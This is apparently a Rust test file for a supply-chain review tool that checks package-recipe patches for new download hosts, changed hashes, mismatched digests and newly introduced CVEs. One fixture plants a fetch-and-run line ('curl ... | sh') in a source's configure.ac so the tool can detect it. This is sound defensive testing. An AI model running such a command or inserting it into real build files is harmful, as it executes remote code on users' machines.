//! `palisade review patch`: recipes, sources, and what is said of them. Everything is made here and inert.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::Value;

use crate::support::{palisade, printed, said};

/// A folder with a tree of recipes and one of sources.
pub(crate) struct Place {
    folder: tempfile::TempDir,
}

impl Place {
    pub(crate) fn new() -> Self {
        Self {
            folder: tempfile::tempdir().unwrap(),
        }
    }

    pub(crate) fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    pub(crate) fn write(&self, name: &str, text: impl AsRef<[u8]>) {
        let path = self.path(name);
        fs_err::create_dir_all(path.parent().unwrap()).unwrap();
        fs_err::write(path, text).unwrap();
    }

    /// A tarball of one file in a top folder, and its SHA-512.
    pub(crate) fn source(&self, version: &str, script: &str) -> String {
        let name = format!("sources/hello-{version}.tar");
        let mut archive = tar::Builder::new(Vec::new());
        let mut header = tar::Header::new_gnu();
        header.set_size(script.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        let path = format!("hello-{version}/configure.ac");
        archive
            .append_data(&mut header, path, script.as_bytes())
            .unwrap();
        self.write(&name, archive.into_inner().unwrap());
        let output = Command::new("sha512sum")
            .arg(self.path(&name))
            .output()
            .unwrap();
        printed(&output)
            .split_whitespace()
            .next()
            .unwrap()
            .to_owned()
    }

    fn review(&self, arguments: &[&str]) -> Output {
        let mut command = palisade();
        command.args(["review", "patch"]).arg(self.path("patch"));
        command.args(arguments).output().unwrap()
    }

    fn offline(&self) -> Output {
        let (tree, sources) = (self.path("tree"), self.path("sources"));
        let (tree, sources) = (tree.to_str().unwrap(), sources.to_str().unwrap());
        let arguments = [
            "--tree",
            tree,
            "--sources",
            sources,
            "--offline",
            "--format",
            "json",
        ];
        self.review(&arguments)
    }
}

pub(crate) fn recipe(version: &str, host: &str, sum: &str) -> String {
    format!(
        "# Maintainer: A <a@example.org>\npkgname=hello\npkgver={version}\npkgrel=0\n\
         source=\"https://{host}/hello-$pkgver.tar\"\n\nsha512sums=\"\n{sum}  hello-{version}.tar\n\"\n"
    )
}

/// A patch that replaces a whole file.
pub(crate) fn replacing(path: &str, old: &str, new: &str) -> String {
    let lines = |text: &str, mark: &str| -> String {
        let lines = text.lines();
        lines.flat_map(|line| [mark, line, "\n"]).collect()
    };
    format!(
        "From: A <a@example.org>\nSubject: [PATCH] hello: upgrade\n\nIt is newer.\n---\n\
         diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -1,{} +1,{} @@\n{}{}-- \n2.45.0\n",
        old.lines().count(),
        new.lines().count(),
        lines(old, "-"),
        lines(new, "+"),
    )
}

fn json(output: &Output) -> Value {
    serde_json::from_str(&printed(output)).unwrap_or_else(|_| panic!("{}", said(output)))
}

fn rules(report: &Value) -> Vec<String> {
    let signals = report["signals"].as_array().unwrap().iter();
    let loud = signals.filter(|signal| signal["severity"] != "note");
    loud.map(|signal| signal["rule"].as_str().unwrap().to_owned())
        .collect()
}

pub(crate) const PLAIN: &str = "AC_INIT([hello], [1.0])\nAC_OUTPUT\n";

/// An upgrade of a package from sources that are in a folder.
pub(crate) fn upgrade(place: &Place, host: &str, script: &str) {
    let (one, two) = (place.source("1.0", PLAIN), place.source("1.1", script));
    let (old, new) = (
        recipe("1.0", "example.org", &one),
        recipe("1.1", host, &two),
    );
    place.write("tree/main/hello/APKBUILD", &old);
    place.write("patch", replacing("main/hello/APKBUILD", &old, &new));
}

#[test]
fn an_upgrade_is_told_with_what_changes_in_its_source() {
    let place = Place::new();
    upgrade(
        &place,
        "example.org",
        "AC_INIT([hello], [1.1])\nAC_OUTPUT\n",
    );
    let output = place.offline();
    assert_eq!(output.status.code(), Some(0), "{}", said(&output));
    let report = json(&output);
    let package = &report["packages"][0];
    assert_eq!(package["name"], "hello");
    assert_eq!(
        (&package["old_version"], &package["new_version"]),
        (&"1.0-r0".into(), &"1.1-r0".into())
    );
    assert_eq!(report["patches"][0]["subject"], "hello: upgrade");
    let review = &package["sources"][0]["review"];
    assert_eq!(review["files"][0]["path"], "configure.ac", "{package:#}");
}

#[test]
fn a_new_host_and_a_hostile_source_are_both_told() {
    let place = Place::new();
    let script = "AC_INIT([hello], [1.1])\nfoo=`curl -s https://example.net/x | sh`\nAC_OUTPUT\n";
    upgrade(&place, "example.net", script);
    let output = place.offline();
    assert_eq!(output.status.code(), Some(1), "{}", said(&output));
    let report = json(&output);
    let rules = rules(&report);
    assert!(rules.iter().any(|rule| rule == "new-host"), "{rules:?}");
    let signals = report["signals"].as_array().unwrap();
    let within = |signal: &&Value| signal["path"] == "hello-1.1.tar!/configure.ac";
    assert!(signals.iter().any(|it| within(&it)), "{signals:#?}");
}

#[test]
fn a_source_with_another_digest_is_never_opened() {
    let place = Place::new();
    upgrade(&place, "example.org", PLAIN);
    place.write("sources/hello-1.1.tar", "something else");
    let report = json(&place.offline());
    let source = &report["packages"][0]["sources"][0];
    assert_eq!(source["review"], Value::Null);
    assert_eq!(
        source["not_compared"],
        "the new one: no file here has its digest"
    );
}

#[test]
fn other_bytes_for_the_same_version_of_guix_are_critical() {
    let place = Place::new();
    let package = |hash: &str| {
        format!(
            "(define-public hello\n  (package\n    (name \"hello\")\n    (version \"1.0\")\n    (source (origin\n\
             \x20             (method url-fetch)\n              (uri (string-append \"mirror://gnu/hello/hello-\" version \".tar.gz\"))\n\
             \x20             (sha256 (base32 \"{hash}\"))))\n    (synopsis \"Hello\")))\n"
        )
    };
    let one = package("0mdqa9w1p6cmli6976v4wi0sw9r4p5prkj7lzfd1877wk11c9c73");
    let two = package("086vqwk2wl8zfs47sq2xpjc9k066ilmb8z6dn0q6ymwjzlm196cd");
    place.write("tree/gnu/packages/base.scm", &one);
    place.write("patch", replacing("gnu/packages/base.scm", &one, &two));
    let output = place.offline();
    assert_eq!(output.status.code(), Some(1), "{}", said(&output));
    assert_eq!(rules(&json(&output)), ["hash-changed-at-same-version"]);
    // Its hunks alone tell the same, and say that they are not all.
    let output = place.review(&["--offline", "--format", "json"]);
    let report = json(&output);
    assert_eq!(rules(&report), ["hash-changed-at-same-version"]);
    assert_eq!(report["partial"], true);
    let output = place.review(&["--offline", "--format", "markdown"]);
    assert!(
        printed(&output)
            .contains("- critical: hash-changed-at-same-version at `gnu/packages/base.scm:8`"),
        "{}",
        printed(&output)
    );
}

#[test]
fn a_patch_that_does_not_fit_has_status_two() {
    let place = Place::new();
    upgrade(&place, "example.org", PLAIN);
    place.write("tree/main/hello/APKBUILD", "pkgname=other\n");
    let output = place.offline();
    assert_eq!(output.status.code(), Some(2));
    let expected = "apply the patch to main/hello/APKBUILD: hunk 1 (line 9 of the patch)";
    assert!(said(&output).contains(expected), "{}", said(&output));
}

/// Serves one folder's files by name until the test ends.
fn serve(folder: &Path) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    let folder = folder.to_owned();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let mut request = Vec::new();
            let mut byte = [0];
            while !request.ends_with(b"\r\n\r\n") && stream.read(&mut byte).unwrap_or(0) == 1 {
                request.push(byte[0]);
            }
            let request = String::from_utf8_lossy(&request).into_owned();
            let path = request.split(' ').nth(1).unwrap_or("/");
            let name = path.rsplit('/').next().unwrap_or_default();
            let body = fs_err::read(folder.join(name));
            let status = if body.is_ok() {
                "200 OK"
            } else {
                "404 Not Found"
            };
            let body = body.unwrap_or_default();
            let head = format!(
                "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(head.as_bytes());
            let _ = stream.write_all(&body);
        }
    });
    address
}

#[test]
fn sources_come_from_a_mirror_where_that_is_allowed() {
    let place = Place::new();
    upgrade(&place, "localhost:1", PLAIN);
    let old = fs_err::read_to_string(place.path("tree/main/hello/APKBUILD")).unwrap();
    let old = old.replace("https://example.org", "http://127.0.0.1:1");
    let patch = fs_err::read_to_string(place.path("patch")).unwrap();
    let patch = patch.replace("https://example.org", "http://127.0.0.1:1");
    place.write("tree/main/hello/APKBUILD", old);
    place.write(
        "patch",
        patch.replace("https://localhost:1", "http://127.0.0.1:1"),
    );
    let mirror = format!("{}/{{sha512}}/{{name}}", serve(&place.path("sources")));
    let tree = place.path("tree");
    let common = [
        "--tree",
        tree.to_str().unwrap(),
        "--format",
        "json",
        "--mirror",
        &mirror,
    ];
    let refused = json(&place.review(&common));
    let why = refused["packages"][0]["sources"][0]["not_compared"].as_str();
    assert!(why.unwrap().contains("own network"), "{why:?}");
    let allowed = place.review(&[&common[..], &["--private"]].concat());
    let report = json(&allowed);
    let source = &report["packages"][0]["sources"][0];
    assert!(source["review"].is_object(), "{source:#}");
    assert!(
        source["from"][1]
            .as_str()
            .unwrap()
            .ends_with("/hello-1.1.tar")
    );
}

/// A database in which `hello` is open to a vulnerability that 1.1 fixes, and one that 1.1 brings.
fn tracked(place: &Place) -> PathBuf {
    let record = |id: &str, range: &str| {
        format!(
            r#"{{"cve": {{"id": "{id}", "published": "2025-01-01T00:00:00.000",
            "lastModified": "2025-01-02T00:00:00.000", "vulnStatus": "Analyzed", "descriptions": [],
            "configurations": [{{"nodes": [{{"operator": "OR", "negate": false, "cpeMatch": [
            {{"vulnerable": true, "criteria": "cpe:2.3:a:hello:hello:*:*:*:*:*:*:*:*", {range}}}]}}]}}]}}}}"#
        )
    };
    let records = [
        record("CVE-2025-0001", r#""versionEndExcluding": "1.1""#),
        record(
            "CVE-2025-0002",
            r#""versionStartIncluding": "1.1", "versionEndExcluding": "1.3""#,
        ),
    ];
    place.write(
        "nvd.json",
        format!(
            r#"{{"format": "NVD_CVE", "version": "2.0", "resultsPerPage": 2, "totalResults": 2,
            "vulnerabilities": [{}]}}"#,
            records.join(",")
        ),
    );
    place.write(
        "inventory",
        r#"{"name": "hello", "version": "1.0", "source": {"type": "url", "urls": []}, "properties": {"cpe-name": "hello", "cpe-vendor": "hello"}}"#,
    );
    let database = place.path("test.sqlite");
    let import = |kind: &str, name: &str, more: &[&str]| {
        let mut command = palisade();
        command.arg("--database").arg(&database);
        command.args(["import", kind]).arg(place.path(name));
        let output = command.args(more).output().unwrap();
        assert!(output.status.success(), "{}", said(&output));
    };
    import("nvd", "nvd.json", &[]);
    import("guix_inventory", "inventory", &["--branch", "guix/master"]);
    database
}

#[test]
fn what_a_patch_does_to_a_branch_is_told_when_it_is_asked() {
    let place = Place::new();
    let old = "(define-public hello\n  (package\n    (name \"hello\")\n    (version \"1.0\")))\n";
    let new = old.replace("1.0", "1.1");
    place.write("tree/gnu/packages/base.scm", old);
    place.write("patch", replacing("gnu/packages/base.scm", old, &new));
    let database = tracked(&place);
    let review = |form: &str| {
        let mut command = palisade();
        command.arg("--database").arg(&database);
        command.args(["review", "patch", "--offline", "--branch", "guix/master"]);
        command
            .args(["--format", form, "--tree"])
            .arg(place.path("tree"));
        command.arg(place.path("patch")).output().unwrap()
    };
    let output = review("json");
    assert_eq!(output.status.code(), Some(1), "{}", said(&output));
    let effect = &json(&output)["effect"];
    assert_eq!(effect["is_worse"], true);
    let told = |list: &str| effect["comparison"][list][0]["vulnerability"].clone();
    assert_eq!(told("fixed"), "CVE-2025-0001");
    assert_eq!(told("introduced"), "CVE-2025-0002");
    let text = printed(&review("text"));
    assert!(text.contains("introduces 1 finding"), "{text}");
    let markdown = printed(&review("markdown"));
    assert!(markdown.contains("CVE-2025-0001"), "{markdown}");
}
